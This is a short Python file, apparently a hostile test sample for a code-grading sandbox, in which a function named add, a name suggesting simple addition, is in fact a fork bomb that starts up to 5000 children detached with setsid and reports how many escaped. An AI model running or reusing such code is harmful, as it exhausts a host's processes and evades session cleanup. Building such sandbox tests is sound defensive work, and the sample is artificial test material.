"""Escaping: a fork bomb whose children leave the process group (setsid) and stay; it reports
how many processes it could start (0 is the right answer: graded code may start none)."""
import os
import time


def add(a, b):
    made = 0
    for _ in range(5000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
        made += 1
    raise RuntimeError(f"forked {made} processes")


class Scaler:
    def __init__(self, k):
        self.k = k

    def forward(self, x):
        return self.k * x
